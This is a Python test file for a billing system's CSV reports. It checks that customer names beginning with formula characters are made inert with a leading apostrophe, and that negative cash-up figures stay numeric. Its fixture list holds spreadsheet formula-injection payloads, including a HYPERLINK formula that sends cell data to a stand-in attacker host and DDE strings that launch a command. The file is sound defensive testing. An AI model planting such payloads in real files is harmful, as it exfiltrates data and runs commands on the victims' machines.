"""CSV exports are opened in spreadsheets: text a spreadsheet would run as a formula is made
inert (issue 19, section 6), while figures stay exact numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from rig.billing import open_billing, reports
from tests.billing.ledger import T0, Clock, add_meter, buy

pytestmark = pytest.mark.filterwarnings("ignore:Dialect sqlite.*Decimal objects natively")

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_every_formula_prefix_is_neutralised_in_a_csv_export(tmp_path) -> None:
    c = open_billing(f"sqlite:///{tmp_path / 'b.sqlite'}",
                     clock=Clock(datetime(2024, 6, 1, tzinfo=UTC)))
    c.create_tariff("RES", Decimal("0.20"), T0)
    for i, name in enumerate(HOSTILE):
        c.register_customer(name, f"ACC-{i}")
        c.register_meter(f"0000000002{i:02d}", customer_account=f"ACC-{i}", profile="p",
                         credit_unit="money_cents", tariff_code="RES", key_revision=1,
                         commissioning_energy_wh=0, commissioned_at=T0)
    text = reports.to_csv(reports.stale_meters(c, 30))
    path = reports.write_csv(reports.stale_meters(c, 30), tmp_path / "stale.csv")
    assert path.read_bytes().decode("utf-8") == text
    names = [row["customer"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert sorted(names) == sorted("'" + n for n in HOSTILE)  # each kept whole, made inert
    c.close()


def test_negative_figures_stay_numbers(tmp_path) -> None:
    clock = Clock(datetime(2024, 3, 2, 9, tzinfo=UTC))
    c = open_billing(f"sqlite:///{tmp_path / 'b.sqlite'}", clock=clock)
    c.create_tariff("RES", Decimal("0.20"), T0)
    c.register_station("DESK-1")
    c.register_operator("carol", "cashier")
    add_meter(c, "000000000101", energy_wh=1000)
    s = c.open_session("carol", "DESK-1", Decimal("50.00"))
    buy(c, "000000000101", "10.00", "r1")
    c.close_session(s.session_id, operator="carol", counted_cash=Decimal("59.50"))
    rows = list(csv.DictReader(io.StringIO(reports.to_csv(reports.cash_up(c)))))
    assert "-0.50" in rows[0].values()  # short by 0.50: a number, not text
    c.close()
